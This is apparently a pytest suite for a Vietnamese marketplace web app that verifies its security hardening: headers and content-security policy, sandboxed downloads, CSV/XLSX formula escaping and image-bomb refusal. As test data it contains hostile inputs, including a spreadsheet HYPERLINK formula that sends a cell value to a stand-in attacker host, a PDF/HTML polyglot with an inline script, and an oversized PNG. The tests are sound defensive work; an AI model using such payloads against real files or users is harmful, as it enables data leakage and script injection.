"""Web hardening: every answer carries the headers that keep the shop's pages its own (no framing, no
inline script, no sniffing, no leaking referrer), and a person's upload is served back as a sandboxed
download, never as a page of the shop."""
import io
import pathlib
import re

import pytest
from sqlalchemy import select

from marketplace import create_app
from marketplace.accounts.services import create_user
from marketplace.catalog.models import Product
from marketplace.extensions import db
from marketplace.sellers.models import Seller

from .test_console import jpeg, listing
from .test_onboarding import PASSWORD, PDF, join, png

PAGE_HEADERS = {
    "X-Frame-Options": "DENY",
    "X-Content-Type-Options": "nosniff",
    "Referrer-Policy": "strict-origin-when-cross-origin",
}


def csp(response) -> dict[str, str]:
    policy = response.headers.get("Content-Security-Policy", "")
    return {part.split()[0]: part.partition(" ")[2] for part in policy.split("; ") if part}


@pytest.mark.parametrize("path", ["/", "/api/v1/products", "/no-such-page", "/static/css/site.css"])
def test_every_answer_carries_the_headers(client, path):
    response = client.get(path)
    for name, value in PAGE_HEADERS.items():
        assert response.headers.get(name) == value, name
    policy = csp(response)
    assert policy["frame-ancestors"] == "'none'" and policy["object-src"] == "'none'"
    assert policy["script-src"] == "'self'" and "unsafe-inline" not in policy["script-src"]
    assert policy["style-src"] == "'self'" and policy["default-src"] == "'self'"
    assert "Strict-Transport-Security" not in response.headers  # plain http in tests: HSTS only in production


def test_no_page_has_an_inline_script_the_policy_would_block(app):
    """Templates may only load scripts from static/js and styles from static/css."""
    templates = pathlib.Path(app.template_folder)
    for path in templates.rglob("*.html"):
        text = path.read_text()
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", text), path  # no inline <script>
        assert not re.search(r"\son[a-z]+=", text), path  # no onclick= and kin
        assert "<style" not in text, path


def test_production_tells_browsers_to_keep_to_https(tmp_path):
    app = create_app("production", {"INSTANCE_PATH": str(tmp_path), "UPLOAD_DIR": str(tmp_path / "u"),
                                    "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path}/p.sqlite",
                                    "SECRET_KEY": "k" * 40, "PUBLIC_BASE_URL": "https://cho.ocop.vn"})
    answer = app.test_client().get("/favicon.ico", base_url="https://cho.ocop.vn")
    assert answer.headers["Strict-Transport-Security"].startswith("max-age=31536000")


def test_a_sellers_document_downloads_sandboxed_and_is_never_shown_inline(client):
    """A PDF that is also an HTML page (a polyglot) must not run as a page of the shop."""
    polyglot = PDF + b"<html><script>fetch('/office/')</script></html>"
    assert join(client, document=(io.BytesIO(polyglot), "dkkd.pdf")).status_code == 302
    seller = db.session.scalar(select(Seller))
    answer = client.get(f"/seller/documents/{seller.documents[0].id}")
    assert answer.data == polyglot
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    assert csp(answer)["sandbox"] == "" and answer.headers["Cache-Control"] == "private, no-store"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


FORMULA = '=HYPERLINK("http://evil.example/?x="&C2,"x")'


def test_a_name_that_looks_like_a_formula_stays_text_in_every_download(client, make):
    """The stock report of a sales point, opened in a spreadsheet by its manager: the name is shown, never run."""
    from io import BytesIO

    from openpyxl import load_workbook

    from marketplace.salespoints import services
    from marketplace.unit_of_work import run

    from .test_salespoints import new_point, officer, sign_in, staff
    point = new_point(officer())
    seller = make.seller(legal_name="@SUM(1+1)", province_code=19)
    product = make.listed(seller=seller, name=FORMULA, price_vnd=120000)
    run(services.receive_goods, point, staff(point, "quanly@ocop.vn", role="manager"), seller.id,
        [services.ReceiptLine(product.id, 3)])
    sign_in(client, "quanly@ocop.vn")

    text = client.get(f"/counter/{point.id}/reports/stock.csv").get_data(as_text=True)
    assert "'" + FORMULA.replace('"', '""') in text and "'@SUM(1+1)" in text  # quoted, with the apostrophe
    book = load_workbook(BytesIO(client.get(f"/counter/{point.id}/reports/stock.xlsx").data))
    cells = {cell.value: cell.data_type for row in book.active.iter_rows(min_row=2) for cell in row}
    assert cells[FORMULA] == "s" and cells["@SUM(1+1)"] == "s"  # text cells, not formulas


def test_a_small_file_of_a_huge_picture_is_refused_before_it_is_decoded(client, make):
    """A 6300×6300 PNG of a few KB would take hundreds of MB to decode."""
    bomb = png(6300, 6300)
    assert len(bomb) < 200_000
    seller = make.seller(email="htx@tancuong.vn")
    create_user("htx@tancuong.vn", "Bình", PASSWORD, role="seller", seller_id=seller.id)
    db.session.commit()
    client.post("/account/sign-in", data={"email": "htx@tancuong.vn", "password": PASSWORD})
    answer = client.post("/seller/products/new", data=listing() | {"photos": [(io.BytesIO(bomb), "anh.png")]},
                         content_type="multipart/form-data")
    assert answer.status_code == 422 and "6300×6300" in answer.get_data(as_text=True)
    nine = [(io.BytesIO(png()), f"anh{n}.png") for n in range(9)]
    answer = client.post("/seller/products/new", data=listing() | {"photos": nine}, content_type="multipart/form-data")
    assert answer.status_code == 422 and "Tối đa 8 ảnh" in answer.get_data(as_text=True)
    assert db.session.scalar(select(Product.id)) is None


def test_a_seller_not_yet_verified_cannot_upload_photos(client, make):
    seller = make.seller(email="moi@htx.vn", verification_status="pending")
    create_user("moi@htx.vn", "Mới", PASSWORD, role="seller", seller_id=seller.id)
    db.session.commit()
    client.post("/account/sign-in", data={"email": "moi@htx.vn", "password": PASSWORD})
    answer = client.post("/seller/products/new", data=listing(status="draft") | {
        "photos": [(io.BytesIO(jpeg()), "anh.jpg")]}, content_type="multipart/form-data")
    assert answer.status_code == 422 and "đã xác minh" in answer.get_data(as_text=True)
    assert db.session.scalar(select(Product.id)) is None
    answer = client.post("/seller/products/new", data=listing(status="draft"))  # a draft without photos is fine
    assert answer.status_code == 303
